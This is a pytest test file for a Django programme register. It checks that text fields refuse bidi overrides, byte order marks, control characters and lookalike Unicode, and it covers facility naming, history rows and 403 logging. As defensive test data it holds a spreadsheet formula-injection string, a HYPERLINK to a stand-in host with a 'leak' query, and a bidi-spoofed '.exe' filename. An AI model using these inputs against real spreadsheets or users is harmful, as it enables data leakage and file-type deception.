"""Text that deceives is refused at the field, everywhere; facilities without a tax code keep distinct names;
no spurious history row; a 403 is one log line (issue 16, finding 5).

The text rule (`programmes.lib.text.text_problem`): bidi and other control characters and a byte
order mark are refused in every text field; compatibility lookalikes (fraktur, fullwidth,
ligatures) in single-line fields — names, codes and numbers. Text that merely starts like a
formula is stored as typed: the spreadsheet writers defuse it (tests/test_spreadsheets.py).
"""

import datetime
import logging

import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.urls import reverse

from programmes import services
from programmes.imports import services as import_services
from programmes.lib.text import text_problem
from programmes.models import Disbursement, Facility, Project
from tests.factories import FacilityFactory, PlanFactory, ProjectFactory, current_province
from tests.import_files import csv_bytes, headers, xlsx
from tests.test_double_submit import _inline_post
from tests.test_imports import KIND_MODELS, KINDS, rows_for, run, snapshot

pytestmark = pytest.mark.django_db
d = datetime.date

FORMULA = '=HYPERLINK("http://x.example/?leak","click")'
BIDI = "gnp\u202e.exe"
BOM = "\ufeff"
FRAKTUR = "𝔐𝔞𝔶 𝔪ó𝔠"
FULLWIDTH = "ＴＨ－２０２４"
REFUSED_EVERYWHERE = {"bidi": BIDI, "bom": BOM, "isolate": "a\u2067b", "control": "a\x07b"}
LOOKALIKES = {"fraktur": FRAKTUR, "fullwidth": FULLWIDTH, "ligature": "ﬁ"}


@pytest.mark.parametrize("value", [*REFUSED_EVERYWHERE.values()], ids=list(REFUSED_EVERYWHERE))
def test_controls_bidi_and_a_bom_are_refused_in_any_text(value):
    assert text_problem(value)
    assert text_problem(value, multiline=True)


@pytest.mark.parametrize("value", list(LOOKALIKES.values()), ids=list(LOOKALIKES))
def test_lookalikes_are_refused_where_a_name_must_match(value):
    assert text_problem(value)
    assert text_problem(value, multiline=True) is None  # free text may quote them


@pytest.mark.parametrize(
    "value", ["Hợp tác xã Mây tre đan Nga Sơn", "Nhà xưởng 500 m²", "Hỗ trợ…", FORMULA, "Dòng 1\nDòng 2"]
)
def test_ordinary_vietnamese_text_passes(value):
    assert text_problem(value.replace("\n", " ")) is None
    assert text_problem(value, multiline=True) is None


def test_the_register_refuses_them_at_the_field():
    plan = PlanFactory()
    project = ProjectFactory.build(plan=plan, name=f"Hỗ trợ {BIDI}")
    with pytest.raises(ValidationError) as refused:
        services.project_save(project=project)
    assert "name" in refused.value.message_dict and "U+202E" in " ".join(refused.value.message_dict["name"])
    for field, value in (("code", FULLWIDTH), ("decision_number", "15/𝔔𝔇-SCT"), ("location", BOM)):
        with pytest.raises(ValidationError) as refused:
            services.project_save(project=ProjectFactory.build(plan=plan, **{field: value}))
        assert list(refused.value.message_dict) == [field], field
    # A free-text note may quote a lookalike, never a bidi override.
    saved = services.project_save(project=ProjectFactory.build(plan=plan, note=f"Ghi chú {FRAKTUR}"))
    assert saved.pk
    with pytest.raises(ValidationError) as refused:
        services.project_save(project=ProjectFactory.build(plan=plan, note=f"Ghi chú {BIDI}"))
    assert "note" in refused.value.message_dict
    assert Project.objects.count() == 1


def test_formula_text_is_stored_as_typed():
    project = services.project_save(project=ProjectFactory.build(plan=PlanFactory(), name=FORMULA))
    assert Project.objects.get(pk=project.pk).name == FORMULA


# --- Imports: every kind, every column --------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_every_column_of_every_import_kind_refuses_deceiving_text(kind, thanhhoa, thanhhoa_manager):
    columns = headers(kind)
    good = rows_for(kind, thanhhoa)[0]
    good = [*good, *[""] * (len(columns) - len(good))]  # the optional columns after the good row's
    states = {model: snapshot(model) for model in KIND_MODELS.values()}
    for index, column in enumerate(columns):
        for name, hostile in {**REFUSED_EVERYWHERE, **LOOKALIKES}.items():
            row = list(good)
            original = row[index]
            row[index] = f"{original}{hostile}" if isinstance(original, str) and original else hostile
            # CSV: a workbook cannot even hold a C0 control character.
            outcome = import_services.check(kind, "a.csv", csv_bytes(columns, [row]), user=thanhhoa_manager)
            assert not outcome.ok, (column, name)
            assert column in [error_column for _n, error_column, _m in outcome.errors], (column, name, outcome.errors)
        # Formula-looking text: stored as typed where the column is text, or refused at the column; never a crash.
        row = list(good)
        if isinstance(row[index], str):
            row[index] = FORMULA
            outcome = import_services.check(kind, "a.csv", csv_bytes(columns, [row]), user=thanhhoa_manager)
            assert outcome.ok or column in [error_column for _n, error_column, _m in outcome.errors]
    for model, state in states.items():
        assert snapshot(model) == state


def test_a_csv_with_a_bom_inside_a_cell_is_refused_at_the_cell(thanhhoa, thanhhoa_manager):
    _plan, (first, _second), _facility = thanhhoa
    text = "\ufeff" + ",".join(headers("disbursements")) + f"\n{first.code},01/06/2024,1000000,,Thanh toán,\ufeff,\n"
    outcome = import_services.check("disbursements", "a.csv", text.encode(), user=thanhhoa_manager)
    assert [(number, column) for number, column, _m in outcome.errors] == [(2, "Số chứng từ")]


# --- Facilities without a tax code -------------------------------------------------------------------


def test_two_facilities_without_a_tax_code_may_not_share_a_name_in_a_province():
    thanh_hoa = current_province("38")
    services.facility_save(facility=Facility(name="Hộ kinh doanh Lê Văn Hòa", kind="hkd", province=thanh_hoa))
    for twin in ("Hộ kinh doanh Lê Văn Hòa", "hộ  kinh doanh LÊ VĂN HÒA"):
        with pytest.raises(ValidationError) as refused:
            services.facility_save(facility=Facility(name=twin, kind="hkd", province=thanh_hoa))
        assert list(refused.value.message_dict) == ["name"]
        assert "mã số thuế" in " ".join(refused.value.message_dict["name"])
    # With a tax code, in another province, or another name (accents count): allowed.
    services.facility_save(facility=Facility(name="Hộ kinh doanh Lê Văn Hòa", kind="hkd", province=thanh_hoa,
                                             tax_code="2800000001"))  # fmt: skip
    services.facility_save(facility=Facility(name="Hộ kinh doanh Lê Văn Hòa", kind="hkd",
                                             province=current_province("48")))  # fmt: skip
    services.facility_save(facility=Facility(name="Hộ kinh doanh Lê Văn Hoa", kind="hkd", province=thanh_hoa))
    assert Facility.objects.count() == 4


def test_the_database_keeps_them_apart_too():
    facility = FacilityFactory(tax_code=None, name="Cơ sở mộc Đông Sơn")
    with pytest.raises(IntegrityError), transaction.atomic():
        Facility.objects.bulk_create(
            [Facility(name="cơ sở mộc đông sơn", kind="hkd", province=facility.province,
                      current_province=facility.current_province, name_key=Facility.key_of("cơ sở mộc đông sơn"))]
        )  # fmt: skip


def test_an_import_matches_a_facility_without_a_tax_code_by_its_name(thanhhoa_manager):
    stored = FacilityFactory(tax_code=None, name="Cơ sở mộc Đông Sơn")
    row = ["", "CƠ SỞ MỘC ĐÔNG SƠN", "Hộ kinh doanh", "38", "", "Đông Sơn", "d", "", "", 7]
    _batch, outcome = run("facilities", xlsx(headers("facilities"), [row]), thanhhoa_manager)
    assert outcome.ok, outcome.errors
    assert (outcome.created, outcome.updated) == (0, 1)
    stored.refresh_from_db()
    assert stored.workforce == 7 and Facility.objects.count() == 1


# --- History and logs --------------------------------------------------------------------------------


def test_adding_a_payment_in_the_projects_table_writes_one_history_row(client, thanhhoa_officer):
    project = ProjectFactory(kc_support=300_000_000)
    client.force_login(thanhhoa_officer)
    project_rows = project.history.count()
    data = _inline_post(client, project, ["10.000.000"])
    assert client.post(reverse("admin:programmes_project_change", args=[project.pk]), data).status_code == 302
    assert list(Disbursement.history.values_list("history_type", flat=True)) == ["+"]
    assert project.history.count() == project_rows  # the đề án itself did not change
    # Saved again as shown: nothing changes, nothing is recorded.
    data = _inline_post(client, project, [])
    assert client.post(reverse("admin:programmes_project_change", args=[project.pk]), data).status_code == 302
    assert Disbursement.history.count() == 1 and project.history.count() == project_rows


def test_a_403_is_logged_as_one_line_without_a_traceback(client, ministry_reviewer, caplog):
    client.force_login(ministry_reviewer)
    client.raise_request_exception = False
    with caplog.at_level(logging.WARNING, logger="django.request"):
        for _ in range(3):
            assert client.post(reverse("reports:draft_create"), {"scope": "nation"}).status_code in (302, 403)
            assert client.get(reverse("admin:programmes_project_add")).status_code == 403
    forbidden = [record for record in caplog.records if getattr(record, "status_code", None) == 403]
    assert len(forbidden) >= 3, [record.getMessage() for record in caplog.records]
    for record in forbidden:
        assert record.exc_info is None and record.exc_text is None
        formatted = logging.Formatter().format(record)
        assert "Traceback" not in formatted and formatted.count("\n") == 0, formatted
